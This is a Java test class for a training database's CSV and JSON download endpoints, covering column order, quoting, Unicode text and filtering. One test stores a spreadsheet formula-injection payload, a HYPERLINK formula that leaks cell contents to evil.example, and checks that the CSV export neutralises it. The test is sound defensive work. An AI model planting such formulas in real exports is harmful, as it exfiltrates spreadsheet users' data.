package org.peacerecord.training;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.peacerecord.shared.PartialDate;
import org.peacerecord.support.PostgresTest;
import org.peacerecord.support.TestRecords;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.context.ApplicationContext;
import org.springframework.mock.web.MockHttpServletResponse;
import org.springframework.test.web.servlet.MockMvc;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.ObjectMapper;

import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;
import static org.peacerecord.support.TestRecords.unique;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

/** /trainings.csv and /trainings.json: the page's filters, no paging, stable columns, UTF-8, proper quoting. */
@PostgresTest
class TrainingDownloadsTest {

    static final List<String> COLUMNS = List.of("id", "ref", "title", "description", "programme", "discipline",
            "region", "region_name", "parent_region", "country", "country_codes", "location", "delivery_mode", "start",
            "start_precision", "end", "end_precision", "dates_as_reported", "trainees", "trainees_qualifier",
            "trainees_as_reported", "trainee_origin", "partners", "mission", "themes", "provenance",
            "source_reliability", "citation", "notes", "updated_at");

    @Autowired
    MockMvc mvc;

    @Autowired
    ApplicationContext context;

    @Autowired
    ObjectMapper json;

    @Autowired
    TestRecords records;

    String tricky;

    @BeforeEach
    void setUp() {
        tricky = unique("Cours « génie », \"HEE\" – 平和構築の研修");
        records.training(tricky).region("middle-africa").period(PartialDate.ofMonth(2096, 4), PartialDate.ofYear(2097))
                .country("São Tomé and Príncipe").partners("UN DOS; Japan, JICA").theme("wps").theme("partnerships")
                .citingPassage(53).citingUrl("Press release", "https://example.org/news?id=1,2").save();
        records.training(unique("Other region")).region("western-europe").inYear(2096).save();
        records.training(unique("Other year")).region("middle-africa").inYear(2090).save();
    }

    @AfterEach
    void tearDown() {
        records.deleteCreated();
    }

    @Test
    void theCsvHasStableColumnsAndOnlyTheFilteredRowsWithTextIntact() throws Exception {
        MockHttpServletResponse response = mvc.perform(get("/trainings.csv?region=africa&year=2096&page=1"))
                .andExpect(status().isOk()).andReturn().getResponse();
        assertThat(response.getContentType()).isEqualTo("text/csv;charset=UTF-8");
        assertThat(response.getHeader("Content-Disposition")).contains("attachment", "trainings.csv");
        String csv = response.getContentAsString(StandardCharsets.UTF_8);

        try (CSVParser parser = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(csv))) {
            assertThat(parser.getHeaderNames()).containsExactlyElementsOf(COLUMNS);
            List<CSVRecord> rows = parser.getRecords();
            assertThat(rows).hasSize(1);
            CSVRecord row = rows.get(0);
            assertThat(row.get("title")).isEqualTo(tricky);
            assertThat(row.get("country")).as("the UN M49 name of the country the text names")
                    .isEqualTo("Sao Tome and Principe");
            assertThat(row.get("country_codes")).isEqualTo("678");
            assertThat(row.get("partners")).isEqualTo("UN DOS; Japan, JICA");
            assertThat(row.get("region")).isEqualTo("middle-africa");
            assertThat(row.get("parent_region")).isEqualTo("africa");
            assertThat(row.get("start")).isEqualTo("2096-04");
            assertThat(row.get("start_precision")).isEqualTo("MONTH");
            assertThat(row.get("end")).isEqualTo("2097");
            assertThat(row.get("end_precision")).isEqualTo("YEAR");
            assertThat(row.get("themes")).isEqualTo("wps; partnerships");
            assertThat(row.get("provenance")).isEqualTo("PUBLIC_RECORD");
            assertThat(row.get("citation")).isEqualTo("statement#p53; https://example.org/news?id=1,2");
        }
        // RFC 4180 quoting: the field with commas and quotes is enclosed, its quotes doubled.
        assertThat(csv).contains("\"Cours « génie », \"\"HEE\"\" – 平和構築の研修");
    }

    @Test
    void theJsonHasTheSameFieldsAndRows() throws Exception {
        MockHttpServletResponse response = mvc.perform(get("/trainings.json?region=middle-africa&year=2097"))
                .andExpect(status().isOk()).andReturn().getResponse();
        assertThat(response.getContentType()).isEqualTo("application/json;charset=UTF-8");
        JsonNode rows = json.readTree(response.getContentAsString(StandardCharsets.UTF_8));

        assertThat(rows.isArray()).isTrue();
        assertThat(rows.size()).isEqualTo(1);
        JsonNode row = rows.get(0);
        List<String> fields = new ArrayList<>(row.propertyNames());
        assertThat(fields).containsExactlyElementsOf(COLUMNS);
        assertThat(row.get("title").asString()).isEqualTo(tricky);
        assertThat(row.get("id").isNumber()).isTrue();
        assertThat(row.get("trainees").isNull()).isTrue();
        assertThat(row.get("citation").asString()).startsWith("statement#p53");
    }

    @Test
    void aDownloadHoldsTheWholeFilteredResultNotOnePage() throws Exception {
        for (int i = 0; i < 22; i++) {
            records.training(unique("Bulk " + i)).region("eastern-europe").inYear(2096).save();
        }
        String csv = mvc.perform(get("/trainings.csv?region=europe&year=2096&page=2")).andExpect(status().isOk())
                .andReturn().getResponse().getContentAsString(StandardCharsets.UTF_8);
        try (CSVParser parser = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(csv))) {
            assertThat(parser.getRecords()).hasSize(23);
        }
    }

    @Test
    void cellsASpreadsheetWouldRunAsFormulasAreNeutralisedInCsvButExactInJson() throws Exception {
        String formula = unique("=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Open\")");
        records.training(formula).region("northern-europe").inYear(2095).country("@SUM(1+1)")
                .partners("-2+3; +cmd").save();

        String csv = mvc.perform(get("/trainings.csv?region=northern-europe&year=2095")).andExpect(status().isOk())
                .andReturn().getResponse().getContentAsString(StandardCharsets.UTF_8);
        try (CSVParser parser = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(csv))) {
            CSVRecord row = parser.getRecords().get(0);
            assertThat(row.get("title")).isEqualTo("'" + formula);
            assertThat(row.get("country")).isEqualTo("'@SUM(1+1)");
            assertThat(row.get("partners")).isEqualTo("'-2+3; +cmd");
            assertThat(row.get("start")).as("ordinary cells untouched").isEqualTo("2095");
        }
        assertThat(csv).as("every cell quoted").contains("\"'@SUM(1+1)\"");

        JsonNode row = json.readTree(mvc.perform(get("/trainings.json?region=northern-europe&year=2095"))
                .andReturn().getResponse().getContentAsString(StandardCharsets.UTF_8)).get(0);
        assertThat(row.get("title").asString()).isEqualTo(formula);
        assertThat(row.get("country").asString()).isEqualTo("@SUM(1+1)");
    }
}
